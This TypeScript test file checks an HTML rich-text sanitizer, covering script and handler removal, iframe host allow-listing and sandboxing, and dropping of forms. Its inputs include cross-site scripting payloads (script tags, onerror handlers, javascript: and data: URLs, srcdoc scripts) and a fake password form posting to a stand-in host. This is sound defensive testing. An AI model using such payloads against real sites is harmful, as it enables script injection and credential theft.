import { sanitizeRichText } from './sanitize';

describe('sanitizeRichText', () => {
  it('keeps ordinary rich text', () => {
    expect(sanitizeRichText('<h2>Hi</h2><p><strong>bold</strong> <a href="/x">link</a></p><ul><li>a</li></ul>')).toBe(
      '<h2>Hi</h2><p><strong>bold</strong> <a href="/x">link</a></p><ul><li>a</li></ul>',
    );
  });
  it('removes scripts, handlers and javascript: links', () => {
    const out = sanitizeRichText('<p onclick="x()">a</p><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">b</a>');
    expect(out).not.toMatch(/script|onerror|onclick|javascript:/i);
    expect(out).toContain('<p>a</p>');
  });
  it('answers a repeated text from memory with the same clean result', () => {
    const dirty = '<p onclick="x()">same</p><script>alert(1)</script>';
    const first = sanitizeRichText(dirty);
    expect(sanitizeRichText(dirty)).toBe(first);
    expect(first).toBe('<p>same</p>');
  });
});

describe('sanitizeRichText: iframes (issue #14 item 14)', () => {
  const frame = (src: string, extra = '') => `<p>before</p><iframe src="${src}"${extra}></iframe><p>after</p>`;

  it('keeps a video embed from an allowed host, sandboxed, with only harmless permissions', () => {
    const out = sanitizeRichText(frame('https://www.youtube-nocookie.com/embed/abc', ' title="Video" width="560" height="315" allow="encrypted-media; picture-in-picture; camera; microphone; payment" allowfullscreen'));
    const iframe = /<iframe[^>]*>/.exec(out)?.[0] ?? '';
    expect(iframe).toContain('src="https://www.youtube-nocookie.com/embed/abc"');
    expect(iframe).toContain('title="Video"');
    expect(iframe).toContain('allowfullscreen');
    expect(iframe).toContain('allow="encrypted-media; picture-in-picture"');
    expect(iframe).not.toMatch(/camera|microphone|payment/);
    expect(iframe).toContain('sandbox="allow-scripts allow-same-origin allow-popups allow-popups-to-escape-sandbox allow-presentation"');
    expect(iframe).toContain('referrerpolicy="strict-origin-when-cross-origin"');
    expect(out).toContain('<p>before</p>');
    expect(out).toContain('<p>after</p>');
  });

  it('keeps the other default hosts: Vimeo, Google Maps embeds, OpenStreetMap', () => {
    for (const src of ['https://player.vimeo.com/video/1', 'https://www.google.com/maps/embed?pb=!1m18', 'https://www.openstreetmap.org/export/embed.html?bbox=1', 'https://www.youtube.com/embed/x']) {
      expect(sanitizeRichText(frame(src))).toContain(`src="${src.replace(/&/g, '&amp;')}"`);
    }
  });

  it.each([
    ['an https host that is not on the list', 'https://evil.example/embed'],
    ['a look-alike host', 'https://www.youtube.com.evil.example/embed/x'],
    ['credentials before the host', 'https://www.youtube.com@evil.example/embed/x'],
    ['http instead of https', 'http://www.youtube.com/embed/x'],
    ['a protocol-relative URL', '//www.youtube.com/embed/x'],
    ['a relative URL', '/api/test/outbox'],
    ['javascript:', 'javascript:alert(1)'],
    ['an encoded javascript:', 'java&#115;cript:alert(1)'],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['Google outside its maps embeds', 'https://www.google.com/search?q=x'],
    ['a path that only starts like an allowed one', 'https://www.google.com/mapsevil/embed'],
    ['another port', 'https://www.youtube.com:8443/embed/x'],
  ])('drops an iframe from %s', (_, src) => {
    const out = sanitizeRichText(frame(src));
    expect(out).not.toContain('<iframe');
    expect(out).toBe('<p>before</p><p>after</p>');
  });

  it('drops an iframe without a source, and srcdoc always', () => {
    expect(sanitizeRichText('<iframe srcdoc="<script>alert(1)</script>"></iframe>')).toBe('');
    const out = sanitizeRichText(frame('https://player.vimeo.com/video/1', ' srcdoc="<script>alert(1)</script>"'));
    expect(out).not.toContain('srcdoc');
    expect(out).toContain('<iframe');
  });

  it('drops permissions given to other origins and unknown attributes', () => {
    const out = sanitizeRichText(frame('https://player.vimeo.com/video/1', ' allow="fullscreen *; autoplay https://evil.example; geolocation" name="x" sandbox="allow-top-navigation allow-forms" referrerpolicy="unsafe-url" csp="x"'));
    const iframe = /<iframe[^>]*>/.exec(out)?.[0] ?? '';
    expect(iframe).toContain('allow="fullscreen; autoplay"');
    expect(iframe).not.toMatch(/evil|geolocation|allow-top-navigation|allow-forms|unsafe-url|name=|csp=/);
  });

  it('drops iframes hidden inside other markup', () => {
    for (const dirty of [
      '<svg><iframe src="https://evil.example"></iframe></svg>',
      '<math><mi><iframe src="https://evil.example"></iframe></mi></math>',
      '<noscript><iframe src="https://evil.example"></iframe></noscript>',
      '<div><iframe src="https://evil.example"><iframe src="https://evil.example"></iframe></iframe></div>',
      '<object data="https://evil.example"></object><embed src="https://evil.example"><frameset><frame src="https://evil.example"></frameset>',
      '<template><iframe src="https://evil.example"></iframe></template>',
    ]) {
      expect(sanitizeRichText(dirty)).not.toMatch(/iframe|evil|<object|<embed|<frame/i);
    }
  });

  it('follows a configured host list instead of the default one', () => {
    const hosts = ['video.example.org', 'maps.example.org/embed'];
    expect(sanitizeRichText(frame('https://video.example.org/v/1'), { iframeHosts: hosts })).toContain('<iframe src="https://video.example.org/v/1"');
    expect(sanitizeRichText(frame('https://maps.example.org/embed/1'), { iframeHosts: hosts })).toContain('<iframe');
    expect(sanitizeRichText(frame('https://maps.example.org/other'), { iframeHosts: hosts })).not.toContain('<iframe');
    expect(sanitizeRichText(frame('https://www.youtube.com/embed/x'), { iframeHosts: hosts })).not.toContain('<iframe');
    expect(sanitizeRichText(frame('https://www.youtube.com/embed/x'), { iframeHosts: [] })).not.toContain('<iframe');
  });
});

describe('sanitizeRichText: forms (issue #14 item 14)', () => {
  it('drops forms and every form control, keeping the surrounding text', () => {
    const out = sanitizeRichText(
      '<p>Log in again:</p><form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="p"></label><select><option>a</option></select><textarea>t</textarea><button formaction="https://evil.example">Send</button><input type="image" src="x"></form><p>end</p>',
    );
    expect(out).not.toMatch(/<form|<input|<button|<select|<option|<textarea|formaction|evil/i);
    expect(out).toContain('<p>Log in again:</p>');
    expect(out).toContain('<p>end</p>');
  });

  it('drops a button or input outside any form that points at another form', () => {
    const out = sanitizeRichText('<button form="checkout" formaction="https://evil.example">Pay</button><input form="checkout" formaction="https://evil.example" type="submit">');
    expect(out).not.toMatch(/<button|<input|formaction|evil/i);
  });
});
